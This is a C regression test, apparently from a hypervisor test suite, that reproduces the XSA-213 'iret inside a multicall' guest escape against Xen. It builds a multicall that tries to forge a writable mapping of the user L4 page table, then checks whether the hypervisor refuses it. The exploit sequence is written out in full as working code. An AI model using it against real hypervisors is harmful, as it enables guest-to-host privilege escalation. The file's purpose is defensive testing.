// SPDX-License-Identifier: MIT
/*
 * xsa213: the iret-inside-a-multicall escape (Xen's XSA-213 class), as an
 * attacker would try it. One multicall: HYPERVISOR_iret to guest user
 * mode, then MMUEXT_NEW_USER_BASEPTR 0, then an mmu_update storing a
 * writable mapping of the user L4 itself into an L1 of the user tree. On
 * a vulnerable hypervisor the last two run in user mode: the loaded user
 * root loses its type, its subtree is devalidated, and the mmu_update
 * writes a plain word into what was an L1, so that user mode maps its own
 * live L4 writable and from there any frame. Not vulnerable, as Xen 4.17:
 * the iret runs, the batch ends with it and returns the guest's rax, and
 * neither later entry runs. A checksumming victim runs beside it on
 * Xenolith; on Xen it runs alone.
 */
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <xen/errno.h>
#include "tests/guest-lib/mm.h"
#include "tests/guest-lib/test.h"
#include "tests/guest-lib/traps.h"

const char test_title[] = "xsa213";

#define POISON   0x5eedUL
#define IRET_RAX 0x1234abcdUL

long mc_iret_try(multicall_entry_t *calls, unsigned long nr, struct iret_context *ctx);
void mc_landing(void);
void __attribute__((noreturn)) mc_iret_back(void);

uint64_t mc_returned_rax, mc_landing_rax;
uint8_t mc_returned, mc_landed;

static multicall_entry_t calls[3];
static struct mmuext_op drop_user_root = { .cmd = MMUEXT_NEW_USER_BASEPTR };
static mmu_update_t forge;
static unsigned int ext_done, mmu_done;
static struct iret_context ctx __attribute__((aligned(16)));
static uint8_t landing_stack[4096] __attribute__((aligned(16)));

static bool syscall_back(struct cpu_regs *regs)
{
    mc_iret_back();
}

/* The L1 that maps USER_MARKER_VA in the user tree: private to that
 * tree, so devalidating the user root would turn it into a plain page. */
static unsigned long user_marker_l1(void)
{
    const uint64_t *t = (const uint64_t *)mfn_to_va(user_l4_mfn);
    unsigned int slot4 = (USER_MARKER_VA >> 39) & 511;

    for (int level = 4; level > 1 && t; level--) {
        uint64_t e = t[level == 4 ? slot4 : 0];

        if (!(e & 1))
            return 0;
        if (level == 2)
            return (e >> 12) & ((1UL << 40) - 1);
        t = (const uint64_t *)mfn_to_va((e >> 12) & ((1UL << 40) - 1));
    }
    return 0;
}

static void read_marker(unsigned long out)
{
    user_exit((long)*(volatile uint64_t *)USER_MARKER_VA);
}

static void entry(multicall_entry_t *e, unsigned long op, unsigned long a0, unsigned long a1,
                  unsigned long a2, unsigned long a3)
{
    *e = (multicall_entry_t){ .op = op, .result = POISON, .args = { a0, a1, a2, a3 } };
}

void test_main(void)
{
    unsigned long l1;
    const volatile uint64_t *l1_va;
    bool vulnerable;
    long rc;

    if (scratch_count() < 32 || !shared_info_map() ||
        !check_long("set_trap_table", 0, traps_install()) || user_setup())
        return;
    l1 = user_marker_l1();
    l1_va = (const volatile uint64_t *)mfn_to_va(l1);
    if (!l1 || !l1_va) {
        test_error("xsa213: cannot find the user tree's L1");
        return;
    }
    trap_set_handler(VEC_SYSCALL, syscall_back);

    forge = (mmu_update_t){ ((uint64_t)l1 << 12) + 8, mfn_pte(user_l4_mfn, PTE_RW_FLAGS) };
    ext_done = mmu_done = POISON;
    entry(&calls[0], __HYPERVISOR_iret, 0, 0, 0, 0);
    entry(&calls[1], __HYPERVISOR_mmuext_op, (unsigned long)&drop_user_root, 1,
          (unsigned long)&ext_done, DOMID_SELF);
    entry(&calls[2], __HYPERVISOR_mmu_update, (unsigned long)&forge, 1, (unsigned long)&mmu_done,
          DOMID_SELF);
    ctx = (struct iret_context){
        .rax = IRET_RAX,
        .r11 = 0,
        .rcx = 0,
        .flags = 0,
        .rip = (uint64_t)mc_landing,
        .cs = FLAT_USER_CS,
        .rflags = 0x002,
        .rsp = (uint64_t)landing_stack + sizeof(landing_stack),
        .ss = FLAT_USER_SS,
    };
    vcpu0()->evtchn_upcall_mask = 1;
    mc_iret_try(calls, 3, &ctx);
    vcpu0()->evtchn_upcall_mask = 1;

    printk("xsa213: iret entry %s, multicall %s\n", mc_landed ? "ran" : "did not run",
           mc_returned ? "returned to its caller" : "ended in user mode");
    check_long("the iret entry ran (landed in user mode)", 1, mc_landed);
    check_long("the multicall did not return to its caller", 0, mc_returned);
    check_long("multicall's return value at the landing is iret's rax", (long)IRET_RAX,
               (long)mc_landing_rax);
    check_long("iret entry's result (iret's rax)", (long)IRET_RAX, (long)calls[0].result);

    vulnerable = calls[1].result != POISON || calls[2].result != POISON || ext_done != POISON ||
                 mmu_done != POISON || l1_va[1] != 0;
    check_long("entry 1 (NEW_USER_BASEPTR 0) did not run", (long)POISON, (long)calls[1].result);
    check_long("entry 2 (mmu_update) did not run", (long)POISON, (long)calls[2].result);
    check_long("mmuext_op done count untouched", (long)POISON, ext_done);
    check_long("mmu_update done count untouched", (long)POISON, mmu_done);
    check_long("user tree L1 slot 1 still empty", 0, (long)l1_va[1]);

    /* The user root is still installed and still a page table. */
    trap_set_handler(VEC_SYSCALL, NULL);
    rc = user_run(read_marker, 0);
    check_long("user mode still sees the user marker", (long)USER_MARKER_USER, rc);
    rc = mmu_update_one(((uint64_t)l1 << 12) + 8, mfn_pte(user_l4_mfn, PTE_RW_FLAGS), NULL);
    check_long("a writable mapping of the user L4 is still refused", -XEN_EBUSY, rc);

    printk("xsa213: %s\n", vulnerable ? "VULNERABLE" : "not vulnerable");
}
